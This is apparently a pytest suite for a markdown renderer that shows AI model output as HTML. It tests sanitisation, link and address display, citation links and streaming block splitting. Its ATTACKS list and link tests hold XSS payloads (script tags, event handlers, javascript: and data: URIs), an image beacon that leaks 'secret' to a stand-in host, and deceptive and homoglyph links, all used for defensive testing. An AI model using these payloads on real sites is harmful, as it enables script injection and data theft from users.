"""Markdown from a model: what it may become, and what it may never become."""

from __future__ import annotations

import random

import pytest
from bs4 import BeautifulSoup

from appliance.web.markdown import render, split_blocks, to_html, with_links

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.example/x)",
    "[x](/sign-out)",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "<svg onload=alert(1)>",
    '[x](https://a.example/"onmouseover="alert(1))',
    "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
    '```"><script>\nx\n```',
    "<style>body{display:none}</style>",
    "| a |\n|:-:|\n| <b onclick=x> |",
]


def parsed(text: str, citations: dict[int, str] | None = None) -> BeautifulSoup:
    return BeautifulSoup(render(text, citations), "html.parser")


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_and_nothing_loads(text: str) -> None:
    page = parsed(text, {1: "/here"})
    assert not page.find_all(["script", "style", "img", "svg", "iframe", "object", "link", "base"])
    for element in page.find_all(True):
        assert not [name for name in element.attrs if name.startswith("on") or name == "style"]
        if element.name == "a":
            assert str(element["href"]).startswith(("https://", "/here"))


def test_a_picture_becomes_its_description() -> None:
    assert render("See ![the *floor* plan](https://e.example/p.png).") == (
        "<p>See the floor plan.</p>\n"
    )


def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
    link = parsed("[law](https://law.example/a?b=1&c=2)").a
    assert link is not None
    assert link["href"] == "https://law.example/a?b=1&c=2"
    assert link["rel"] == ["noopener", "noreferrer", "nofollow"]
    assert link["target"] == "_blank"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "[your bank](https://evil.example/?q=secret)",
            "your bank (https://evil.example/?q=secret)",
        ),
        ("[**bank** `x`](https://evil.example)", "bank x (https://evil.example)"),
        (
            "[https://bank.example](https://evil.example)",
            "https://bank.example (https://evil.example)",
        ),
        # A name that only looks like another one is shown in the letters that the browser asks for.
        ("[bank](https://bаnk.example)", "bank (https://xn--bnk-6cd.example)"),  # noqa: RUF001
        ("[](https://evil.example)", " (https://evil.example)"),
        ("[mail](mailto:a@evil.example)", "mail (mailto:a@evil.example)"),
        (
            "[a](https://a.example), [b](https://b.example)",
            "a (https://a.example), b (https://b.example)",
        ),
        ("<https://law.example/x>", "https://law.example/x"),
    ],
)
def test_a_link_shows_its_address_beside_its_words(text: str, shown: str) -> None:
    assert parsed(text).text.rstrip("\n") == shown


def test_the_address_of_a_link_is_no_markup() -> None:
    page = parsed("[x](https://e.example/?a=<b>&amp;c)")
    assert not page.find_all("b")
    assert page.select_one("span.address")


def test_bare_addresses_are_no_links() -> None:
    assert not parsed("see https://law.example").a


def test_a_known_citation_becomes_a_link_that_stays_with_its_word() -> None:
    html = render("It ends in May [2].", {2: "/documents/x?a=1&b=2"})
    assert "May&nbsp;<a" in html
    link = BeautifulSoup(html, "html.parser").a
    assert link is not None
    assert link["href"] == link["hx-get"] == "/documents/x?a=1&b=2"
    assert link["class"] == ["citation"]
    assert link["aria-label"] == "Source 2"
    assert link.text == "2"


def test_an_unknown_citation_is_removed_with_its_space() -> None:
    assert render("It ends in May [7].", {2: "/x"}) == "<p>It ends in May.</p>\n"


def test_citations_may_stand_together() -> None:
    page = parsed("Yes [1, 2, 9][3].", {1: "/a", 2: "/b", 3: "/c"})
    assert [link["href"] for link in page.find_all("a")] == ["/a", "/b", "/c"]


def test_citations_work_in_lists_tables_and_emphasis() -> None:
    page = parsed("- a [1]\n- **b [1]**\n\n| x |\n|--|\n| c [1] |\n", {1: "/a"})
    assert len(page.select("li > a, strong > a, td > a")) == 3


def test_brackets_in_code_and_links_are_not_citations() -> None:
    page = parsed("`a[1]`\n\n    b[1]\n\n```\nc[1]\n```\n\n[see [1]](https://e.example)", {1: "/a"})
    assert not page.select(".citation")
    assert page.text.count("[1]") == 4


def test_a_reference_of_the_text_cannot_take_over_a_citation() -> None:
    page = parsed("As said [1].\n\n[1]: https://evil.example", {1: "/a"})
    assert {str(link["href"]) for link in page.find_all("a")} == {"/a"}


def test_tables_keep_their_alignment_without_style() -> None:
    page = parsed("| a | b |\n|:--|--:|\n| 1 | 2 |\n")
    assert [cell.get("align") for cell in page.find_all("td")] == ["left", "right"]
    assert page.select("div.scroll > table")


PIECES = [
    "A paragraph\nof two lines.\n\n",
    "# Heading\n",
    "Setext\n---\n\n",
    "- one\n- two\n\n  still two\n\n- three\n",
    "1. a\n2. b\n   - c\n\n",
    "```python\nx = [1]\n\n# no heading\n```\n",
    "~~~\nunclosed is closed here\n~~~\n\n",
    "> quote\nlazy\n\n",
    "| a | b |\n|---|---|\n| 1 | [1] |\n\n",
    "***\n",
    "text\n#hashtag\n***bold***\n\n",
    "    indented\n\n    code\n\n",
    "\n\n",
    "Ends [1] without a blank line\n",
]
CITATIONS = {1: "/one"}


@pytest.mark.parametrize("seed", range(25))
def test_blocks_of_a_growing_text_never_change_and_add_up(seed: int) -> None:
    chance = random.Random(seed)  # noqa: S311 - a repeatable choice
    text = "".join(chance.choice(PIECES) for _ in range(6))
    closed: list[str] = []
    tail = ""
    position = 0
    while position < len(text):
        step = chance.randint(1, 12)
        more, tail = split_blocks(tail + text[position : position + step])
        closed += more
        position += step
        # From the start or from the rest: the same blocks.
        assert split_blocks(text[:position]) == (closed, tail)
        assert "".join(closed) + tail == text[:position]
    shown = "".join(render(part, CITATIONS) for part in [*closed, tail])
    assert shown == render(text, CITATIONS)


def test_a_fence_stays_open_until_its_end() -> None:
    closed, tail = split_blocks("Look:\n\n```\na\n\nb\n\n# c\n")
    assert closed == ["Look:\n\n"]
    assert tail.startswith("```")


def test_a_list_stays_open_while_it_may_go_on() -> None:
    assert split_blocks("- a\n\n- b\n\n")[0] == []
    assert split_blocks("- a\n\n- b\n\nAfter\n")[0] == ["- a\n\n- b\n\n"]


def test_an_unfinished_line_closes_nothing() -> None:
    assert split_blocks("text\n#")[0] == []
    assert split_blocks("text\n\nnew") == ([], "text\n\nnew")


def test_headings_stand_below_those_of_the_page() -> None:
    html = render("# One\n\n## Two\n\n##### Five")
    assert "<h3>One</h3>" in html
    assert "<h4>Two</h4>" in html
    assert "<h6>Five</h6>" in html


def test_kept_html_gets_its_links_when_it_is_shown() -> None:
    html = to_html("It ends in May [1, 2] [3].")
    assert "/source" not in html
    shown = BeautifulSoup(with_links(html, {2: "/source?x=1&y=2"}), "html.parser")
    assert shown.text == "It ends in May\u00a02.\n"
    assert [link["href"] for link in shown.find_all("a")] == ["/source?x=1&y=2"]
    assert with_links(html, {}) == "<p>It ends in May.</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        '<a class="citation" href="#1">1</a>',
        '&lt;a class="citation" href="#1"&gt;1&lt;/a&gt;',
        '`<a class="citation" href="#1">1</a>`',
    ],
)
def test_a_text_cannot_write_a_mark(text: str) -> None:
    assert not parsed(text, {1: "/a"}).select(".citation")
